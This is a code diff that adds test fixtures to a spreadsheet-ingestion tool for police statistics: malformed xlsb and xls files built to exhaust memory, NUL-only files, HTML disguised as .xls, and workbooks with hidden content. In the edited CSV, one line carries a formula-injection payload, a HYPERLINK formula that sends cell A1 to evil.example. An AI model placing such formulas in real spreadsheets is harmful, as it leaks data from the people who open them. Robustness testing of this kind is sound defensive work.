@@ -513,6 +513,188 @@ def build(folder: Path) -> dict[str, Path]:
     put("mixed_utf8_cp1252.csv", "Force,Cost\nKent Police,£120\nEssex Police,£98\n".encode() + b"Surrey Police,\x96\n")
     put("truncated_utf8.csv", "Force,Cost\nKent Police,£120\nEssex,£".encode()[:-1])
     put("nul_padded.csv", b"Force,Count\nKent Police,120\n" + b"\x00" * 512)
+    out.update(build_round_two(folder))
+    return out
+
+
+# --- round two (issue 17): xlsb records, far cells, NUL files, HTML fragments, hidden content ---
+
+
+def _varint(n: int) -> bytes:
+    out = b""
+    while True:
+        b, n = n & 0x7F, n >> 7
+        if n:
+            out += bytes([b | 0x80])
+        else:
+            return out + bytes([b])
+
+
+def brt(rtype: int, data: bytes = b"") -> bytes:
+    """One xlsb record: type and length as 7-bit varints, then the body (MS-XLSB 2.1.4)."""
+    return _varint(rtype) + _varint(len(data)) + data
+
+
+def _wide(text: str) -> bytes:
+    return struct.pack("<I", len(text)) + text.encode("utf-16-le")
+
+
+def xlsb_real(col: int, value: float) -> bytes:
+    return brt(0x05, struct.pack("<I", col) + bytes(4) + struct.pack("<d", value))
+
+
+def xlsb_text(col: int, text: str) -> bytes:
+    return brt(0x06, struct.pack("<I", col) + bytes(4) + _wide(text))
+
+
+def xlsb_row(row: int, *cells: bytes, hidden: bool = False) -> bytes:
+    return brt(0x00, struct.pack("<IIHBB", row, 0, 300, 0, 0x10 if hidden else 0) + bytes(5)) + b"".join(cells)
+
+
+def xlsb_sheet(rows: bytes, dim: tuple[int, int, int, int] = (0, 1, 0, 1)) -> bytes:
+    """BrtBeginSheet, BrtWsDim (first row, last row, first col, last col), the sheet data, the ends."""
+    return brt(0x81) + brt(0x94, struct.pack("<IIII", *dim)) + brt(0x91) + rows + brt(0x92) + brt(0x82)
+
+
+def write_xlsb(path: Path, sheets: list[tuple[str, int, bytes]]) -> Path:
+    """A minimal .xlsb calamine reads: (name, visibility 0/1/2, sheet records) per sheet."""
+    ct = (
+        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+        '<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'
+        '<Override PartName="/xl/workbook.bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'
+        + "".join(f'<Override PartName="/xl/worksheets/sheet{i + 1}.bin" ContentType="application/vnd.ms-excel.worksheet"/>'
+                  for i in range(len(sheets)))
+        + "</Types>"
+    )
+    rels = ROOT_RELS.replace("xl/workbook.xml", "xl/workbook.bin")
+    wrels = (
+        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        + "".join(f'<Relationship Id="rId{i + 1}" Type="{REL_NS}/worksheet" Target="worksheets/sheet{i + 1}.bin"/>'
+                  for i in range(len(sheets)))
+        + "</Relationships>"
+    )
+    book = brt(0x83) + brt(0x8F)
+    for i, (name, state, _) in enumerate(sheets):
+        book += brt(0x9C, struct.pack("<II", state, i + 1) + _wide(f"rId{i + 1}") + _wide(name))
+    book += brt(0x90) + brt(0x84)
+    parts: dict[str, str | bytes] = {
+        "[Content_Types].xml": ct, "_rels/.rels": rels, "xl/workbook.bin": book, "xl/_rels/workbook.bin.rels": wrels,
+    }
+    parts.update({f"xl/worksheets/sheet{i + 1}.bin": data for i, (_, _, data) in enumerate(sheets)})
+    return write_zip(path, parts)
+
+
+XLSB_TABLE = xlsb_row(0, xlsb_text(0, "Force"), xlsb_text(1, "2023")) + xlsb_row(1, xlsb_text(0, "Kent Police"), xlsb_real(1, 150))
+
+
+def _boundsheet(offset: int, name: str) -> bytes:
+    return biff(0x0085, struct.pack("<IBB", offset, 0, 0) + bytes([len(name), 0]) + name.encode("latin-1"))
+
+
+def biff_workbook(sheets: list[tuple[str, bytes]], globals_extra: bytes = b"") -> bytes:
+    """A BIFF8 Workbook stream: globals (BOF, extras, BOUNDSHEETs, EOF), then each sheet's substream."""
+    sheet_bof = biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0x0DBB, 0x07CC, 0, 0x0006))
+    head = BIFF8_BOF + globals_extra
+    offset = len(head) + sum(len(_boundsheet(0, n)) for n, _ in sheets) + 4
+    bounds, bodies = b"", b""
+    for name, records in sheets:
+        bounds += _boundsheet(offset + len(bodies), name)
+        bodies += sheet_bof + records + biff(0x000A)
+    return head + bounds + biff(0x000A) + bodies
+
+
+def biff_number(row: int, col: int, value: float) -> bytes:
+    return biff(0x0203, struct.pack("<HHHd", row, col, 0, value))
+
+
+def biff_label_table() -> bytes:
+    """Force / 2023 over Kent Police / 150, as NUMBER and LABEL records."""
+    def label(row: int, col: int, text: str) -> bytes:
+        return biff(0x0204, struct.pack("<HHHHB", row, col, 0, len(text), 0) + text.encode("latin-1"))
+    return label(0, 0, "Force") + label(0, 1, "2023") + label(1, 0, "Kent Police") + biff_number(1, 1, 150)
+
+
+def build_round_two(folder: Path) -> dict[str, Path]:
+    """Issue 17's fixtures (all small): see docs/reliability.md, "Round two"."""
+    folder = Path(folder)
+    out: dict[str, Path] = {}
+
+    def put(name: str, data: bytes | str, encoding: str = "utf-8") -> None:
+        path = folder / name
+        path.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))
+        out[name] = path
+
+    # xlsb: a good one (with a hidden sheet and a hidden row), and the liars
+    out["good.xlsb"] = write_xlsb(folder / "good.xlsb", [
+        ("Data", 0, xlsb_sheet(XLSB_TABLE + xlsb_row(2, xlsb_text(0, "Essex Police"), xlsb_real(1, 7), hidden=True),
+                               (0, 2, 0, 1))),
+        ("Staff", 1, xlsb_sheet(xlsb_row(0, xlsb_text(0, "PC Smith"), xlsb_real(1, 4321)))),
+    ])
+    # a cell in column 4,294,967,280: calamine asked for 137 GB and aborted the process
+    out["xlsb_far_column.xlsb"] = write_xlsb(folder / "xlsb_far_column.xlsb", [
+        ("Data", 0, xlsb_sheet(xlsb_row(0, xlsb_real(0, 1), xlsb_real(0xFFFFFFF0, 2)), (0, 0, 0, 0)))])
+    # a cell at row 1,000,000, column 16,000 under a one-cell table: 16 billion cells
+    out["xlsb_far_row.xlsb"] = write_xlsb(folder / "xlsb_far_row.xlsb", [
+        ("Data", 0, xlsb_sheet(xlsb_row(0, xlsb_real(0, 1)) + xlsb_row(1_000_000, xlsb_real(16_000, 1))))])
+    out["xlsb_bad_dimension.xlsb"] = write_xlsb(folder / "xlsb_bad_dimension.xlsb", [
+        ("Data", 0, xlsb_sheet(XLSB_TABLE, (5, 1, 3, 0)))])
+    out["xlsb_cut_record.xlsb"] = write_xlsb(folder / "xlsb_cut_record.xlsb", [
+        ("Data", 0, xlsb_sheet(XLSB_TABLE)[:-9] + _varint(0x05) + _varint(4000))])
+    # xls: a stray far cell on each of 8 sheets (16.7 million cells each; 6 GB and a minute before)
+    put("xls_far_cells.xls", cfb([("Workbook", biff_workbook(
+        [(f"Sheet{i + 1}", biff_label_table() + biff_number(65535, 255, 1)) for i in range(8)]))]))
+    # xls: a good table with a hidden row (ROW record, fDyZero) holding a number
+    hidden_row = biff(0x0208, struct.pack("<HHHHHHHH", 2, 0, 2, 255, 0, 0, 0x0020 | 0x0100, 0x0F))
+    put("xls_hidden_row.xls", cfb([("Workbook", biff_workbook([("Data", biff_label_table() + hidden_row + biff(
+        0x0204, struct.pack("<HHHHB", 2, 0, 0, 12, 0) + b"Essex Police") + biff_number(2, 1, 7))]))]))
+    # xls: a shared-strings table claiming two billion strings (calamine reserves before reading)
+    sst = biff(0x00FC, struct.pack("<Ii", 1, 0x7FFFFFF0) + struct.pack("<HB", 1, 0) + b"A")
+    put("xls_sst_count.xls", cfb([("Workbook", biff_workbook([("Data", biff_label_table())], globals_extra=sst))]))
+    # text: only NUL bytes (a 2 GB one took 4 GB before it was refused; 1 MB shows the rule)
+    put("nul_only.csv", bytes(1024 * 1024))
+    # HTML saved as .xls in the forms seen: a <style> first, a <div>, a comment, BOM and blank lines, UTF-16
+    table = "<table><tr><td>Force</td><td>2023</td></tr><tr><td>Kent</td><td>150</td></tr></table>"
+    put("html_style.xls", "<style>td { mso-number-format: General }</style>\n" + table)
+    put("html_div.xls", "<div>\n  " + table + "\n</div>")
+    put("html_comment.xls", "<!-- exported by the records system -->\r\n" + table)
+    put("html_pretty.xls", "\ufeff\r\n\r\n    <table border=1>\n      <tr>\n        <td>Force</td>\n      </tr>\n    </table>\n")
+    put("html_utf16.xls", "\ufeff<div>" + table + "</div>", "utf-16-le")
+    # hidden content: a hidden row and column with values, a hidden and a very hidden sheet,
+    # a named range and a pivot cache part
+    rows = (
+        _row(1, _text("A1", "Force"), _text("B1", "2022/23"), _text("D1", "Officer"))
+        + _row(2, _text("A2", "Kent Police"), _num("B2", 10), _num("D2", 99))
+        + _row(3, _text("A3", "Essex Police"), _num("B3", 20))
+        + '<row r="4" hidden="1">' + _text("A4", "Surrey Police") + _num("B4", 5) + "</row>"
+    )
+    visible = sheet_xml(rows).replace("<sheetData>", '<cols><col min="4" max="4" hidden="1" width="9"/></cols><sheetData>')
+    parts = xlsx_parts([("Data", visible), ("Names", sheet_xml(_row(1, _text("A1", "PC Smith"), _num("B1", 4321)))),
+                        ("Key", sheet_xml(_row(1, _text("A1", "x"), _num("B1", 1))))])
+    parts["xl/workbook.xml"] = (
+        parts["xl/workbook.xml"]
+        .replace('<sheet name="Names" sheetId="2"', '<sheet name="Names" state="hidden" sheetId="2"')
+        .replace('<sheet name="Key" sheetId="3"', '<sheet name="Key" state="veryHidden" sheetId="3"')
+        .replace("</sheets>", '</sheets><definedNames><definedName name="Officers">Names!$A$1:$B$1</definedName>'
+                 '<definedName name="_xlnm.Print_Area" localSheetId="0">Data!$A$1:$B$4</definedName></definedNames>')
+    )
+    parts["xl/pivotCache/pivotCacheDefinition1.xml"] = '<pivotCacheDefinition xmlns="%s"/>' % MAIN_NS
+    out["hidden.xlsx"] = write_zip(folder / "hidden.xlsx", parts)
+    out["hidden.ods"] = ods(
+        folder / "hidden.ods",
+        '<table:table-row><table:table-cell office:value-type="string"><text:p>Force</text:p></table:table-cell>'
+        '<table:table-cell office:value-type="string"><text:p>2022/23</text:p></table:table-cell></table:table-row>'
+        '<table:table-row><table:table-cell office:value-type="string"><text:p>Kent Police</text:p></table:table-cell>'
+        + ods_cell(10) + "</table:table-row>"
+        '<table:table-row table:visibility="collapse"><table:table-cell office:value-type="string">'
+        "<text:p>Essex Police</text:p></table:table-cell>" + ods_cell(7) + "</table:table-row>",
+    )
+    # a tidy dataset given back, hand-edited: a formula where a force should be
+    put("tidy_edited.csv",
+        "force,force_code,area_kind,measure,period_start,period_end,period_label,value,status,value_low,value_high,"
+        "source_file,source_sheet,source_cell,note\n"
+        "Kent Police,E23000032,force,Arrests,2022-04-01,2023-03-31,2022/23,10,ok,,,a.xlsx,Data,B2,\n"
+        '"=HYPERLINK(""http://evil.example/?""&A1,""Essex"")",,force,Arrests,2022-04-01,2023-03-31,2022/23,20,ok,,,a.xlsx,Data,B3,\n')
     return out
 
 
